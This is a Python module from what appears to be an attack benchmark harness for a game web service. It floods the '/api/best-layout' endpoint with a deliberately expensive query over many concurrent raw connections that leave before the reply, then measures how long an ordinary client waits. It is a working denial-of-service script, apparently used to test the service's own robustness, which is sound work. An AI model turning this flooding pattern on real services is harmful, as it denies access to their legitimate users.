"""The heaviest question about a game, asked very often, by somebody who does not wait for the answer."""

import asyncio
import json
import time
from dataclasses import replace

from bench.attacks.harness import Raw, Told, Victim, raw

LONG = 700
PATH = "/api/best-layout"
HEAVY = "SSSSH/H###O/M#O#O/PPPPF/FOODC e5:SP-H"
"""Around a landscape it is searched for about a second."""


async def attack(victim: Victim, most: int) -> Told:
    told = victim.told
    at_once = 40
    while told.sent < most:
        await asyncio.gather(*[_ask_and_go(victim, told) for _ in range(min(at_once, most - told.sent))])
    started = time.monotonic()
    async with replace(victim, source="127.0.0.1").client() as honest:
        answer = await honest.post("/api/score", json={"cities": ["SSSS/HHOM/OPOO/OPHP"]})
    waited = time.monotonic() - started
    told.answers[f"{answer.status_code} for somebody honest after {waited:.1f} s"] += 1
    return told


async def _ask_and_go(victim: Victim, told: Told) -> None:
    told.sent += 1
    try:
        async with raw(victim) as connection:
            await _ask(connection)
            answer = await connection.rest(0.3)
            told.answers[answer[9:12].decode() or "left before the answer"] += 1
    except OSError:
        told.answers["not accepted"] += 1


async def _ask(connection: Raw) -> None:
    body = json.dumps({"cities": [HEAVY], "number": 0}).encode()
    head = f"POST {PATH} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: {len(body)}\r\n\r\n"
    await connection.send(head.encode() + body)
